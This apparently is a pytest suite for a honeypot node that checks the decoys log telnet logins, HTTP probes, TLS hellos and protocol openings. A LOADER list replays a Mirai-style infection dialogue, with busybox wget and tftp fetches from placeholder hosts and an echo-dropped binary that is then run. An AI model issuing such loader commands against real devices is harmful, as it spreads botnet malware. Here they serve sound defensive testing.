"""Real clients visit the decoys, and the node tells who they were."""

import hashlib
import subprocess

import pytest

from noroshi import converse, wait_until
from terminal import Terminal


def sessions(node):
    """Every visit of 127.0.0.1, newest first, with its observations."""
    return [node.json("show", "session", visit["session"])[0] for visit in node.json("show", "ip", "127.0.0.1")[0]["visits"]]


def observations(node, **wanted):
    """Observations over all visits whose members have the values wanted."""
    if not node.knows("127.0.0.1"):
        return []
    found = [each for session in sessions(node) for each in session["observations"]]
    return [each for each in found if all(each.get(name) == value for name, value in wanted.items())]


def wait_for(node, **wanted):
    return wait_until(lambda: observations(node, **wanted), f"an observation with {wanted}")


def test_a_busybox_telnet_client_logs_in_and_every_word_is_kept(node):
    with Terminal("busybox", "telnet", "127.0.0.1", str(node.port("telnet"))) as terminal:
        terminal.expect("login: ")
        terminal.type("root\r")
        terminal.expect("assword: ")
        terminal.type("wrong-word\r")
        terminal.expect("login: ")
        for _ in range(8):  # the persona may want more than one try
            terminal.type("root\r")
            terminal.expect("assword: ")
            terminal.type("root\r")
            answer = terminal.expect(" ") and terminal.screen
            try:
                terminal.patience = 3
                terminal.expect("# ")
                break
            except AssertionError:
                terminal.patience = 20
        terminal.type("/bin/busybox NOROSHI\r")
        terminal.expect("NOROSHI: applet not found")
        terminal.type("exit\r")
    wait_for(node, kind="command", command="/bin/busybox NOROSHI")
    attempts = observations(node, kind="login")
    assert {"root"} == {each["username"] for each in attempts}
    assert "wrong-word" in {each["password"] for each in attempts}
    assert any(each["accepted"] for each in attempts)


def test_curl_gets_the_persona_and_each_request_is_an_observation(node):
    url = f"http://127.0.0.1:{node.port('http')}"
    page = subprocess.run(["curl", "-si", f"{url}/"], capture_output=True, text=True, timeout=20, check=True).stdout
    assert page.startswith("HTTP/1.1 200 OK\r\nServer: nginx") or "\nServer: nginx" in page
    # Two requests on one kept connection, then a form.
    subprocess.run(["curl", "-s", "-o", "/dev/null", f"{url}/.env", f"{url}/admin?x=1"], timeout=20, check=True)
    subprocess.run(["curl", "-s", "-o", "/dev/null", "-A", "scanner/1.0", "-d", "user=admin&pass=12345", f"{url}/login"], timeout=20, check=True)
    wait_for(node, kind="request", method="POST", path="/login", user_agent="scanner/1.0")
    assert {"/", "/.env", "/admin?x=1", "/login"} <= {each["path"] for each in observations(node, kind="request")}
    profile = node.json("show", "ip", "127.0.0.1")[0]
    assert node.port("http") in profile["ports"]


def test_nmap_recognises_the_web_server_and_is_recorded(node):
    port = node.port("http")
    found = subprocess.run(["nmap", "-sT", "-sV", "-Pn", "-n", "--version-light", "-p", str(port), "127.0.0.1"], capture_output=True, text=True, timeout=120, check=True)
    assert "nginx" in found.stdout, found.stdout
    wait_for(node, kind="request", method="GET", path="/")


def test_openssl_speaks_tls_on_the_any_port_and_its_hello_is_kept(node):
    command = ["openssl", "s_client", "-connect", f"127.0.0.1:{node.port('any')}", "-servername", "tower.example"]
    subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=40)
    wait_for(node, kind="hello", protocol="tls", service="any")
    hello = wait_for(node, kind="hello", service="https", sni="tower.example")[0]
    assert hello["payload"]


@pytest.mark.parametrize(
    ("opening", "protocol"),
    [
        (b"SSH-2.0-Go\r\n", "ssh"),
        (b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00", "rdp"),
        (b"*1\r\n$4\r\nPING\r\n", "redis"),
        (b"CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00\x32\x02\x00\x00\xbc\xb1\xa7\xb1host::\x00", "adb"),
    ],
)
def test_the_any_port_decoy_names_the_protocol_from_its_first_bytes(node, opening, protocol):
    converse(node.port("any"), opening, timeout=1)
    wait_for(node, protocol=protocol)


def test_http_on_the_any_port_is_handed_to_the_http_decoy(node):
    page = subprocess.run(["curl", "-si", f"http://127.0.0.1:{node.port('any')}/shell"], capture_output=True, text=True, timeout=20, check=True)
    assert page.stdout.startswith("HTTP/1.1 ")
    wait_for(node, kind="request", path="/shell")


LOADER = [
    b"enable\r\n",
    b"system\r\n",
    b"shell\r\n",
    b"sh\r\n",
    b"/bin/busybox MIRAI\r\n",
    b"/bin/busybox ps; /bin/busybox MIRAI\r\n",
    b"/bin/busybox cat /proc/mounts; /bin/busybox MIRAI\r\n",
    b"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon\r\n",
    b"cd /tmp; /bin/busybox cp /bin/echo dvr; >dvr; /bin/busybox chmod 777 dvr; /bin/busybox MIRAI\r\n",
    b"/bin/busybox wget http://malware.example.com/bins/mirai.arm -O - > dvr; /bin/busybox MIRAI\r\n",
    b"/bin/busybox tftp -g -r mirai.arm -l dvr 198.51.100.7; /bin/busybox MIRAI\r\n",
    b"echo -ne '\\x7f\\x45\\x4c\\x46synthetic' > upnp; /bin/busybox MIRAI\r\n",
    b"echo -ne '-sample' >> upnp; /bin/busybox MIRAI\r\n",
    b"./upnp; /bin/busybox MIRAI\r\n",
]


def test_a_loader_of_the_mirai_type_is_talked_through_to_its_end(node):
    """The dialogue of the published loader: log in, probe for BusyBox, look at mounts, drop a file by echo."""
    import socket

    with socket.create_connection(("127.0.0.1", node.port("telnet")), timeout=20) as visitor:
        visitor.settimeout(20)

        def hear(marker):
            heard = b""
            while marker not in heard:
                more = visitor.recv(4096)
                assert more, f"closed before {marker!r}: {heard!r}"
                heard += more
            return heard

        for _ in range(8):
            hear(b"ogin: ")
            visitor.sendall(b"root\r\n")
            hear(b"assword: ")
            visitor.sendall(b"root\r\n")
            visitor.settimeout(8)
            answer = b""
            while b"ogin: " not in answer and b"# " not in answer and b"$ " not in answer:
                answer += visitor.recv(4096)
            visitor.settimeout(20)
            if b"ogin: " not in answer:
                break
            visitor.sendall(b"")
        for line in LOADER[:4]:
            visitor.sendall(line)
        for line in LOADER[4:]:
            visitor.sendall(line)
            if b"MIRAI" in line:
                hear(b"MIRAI: applet not found")
    wait_for(node, kind="download", url="http://malware.example.com/bins/mirai.arm")
    sample = hashlib.sha256(b"\x7fELFsynthetic-sample").hexdigest()
    wait_for(node, kind="file", sha256=sample)

    # The node tells who it was, and what it wanted, by each of its traces.
    source = node.json("search", "127.0.0.1")[0]
    assert source["known"] and source["hits"][0]["evidence"] == "observed"
    for value in ("hxxp://malware[.]example[.]com/bins/mirai.arm", "malware.example.com", sample):
        answer = node.json("search", value)[0]
        assert answer["known"], value
        assert answer["hits"][0]["evidence"] == "claimed"
        assert answer["hits"][0]["to_ids"] is False


def test_ipv6_visitors_are_served_and_found(tmp_path):
    from noroshi import Node

    with Node(tmp_path, settings=["sense.listen=http@nginx:[::1]:0"]) as node:
        port = node.port("http")
        subprocess.run(["curl", "-s", "-o", "/dev/null", f"http://[::1]:{port}/six"], timeout=20, check=True)
        wait_until(lambda: node.knows("::1"), "the visitor's address")
        assert node.json("search", "0:0:0:0:0:0:0:1")[0]["known"]
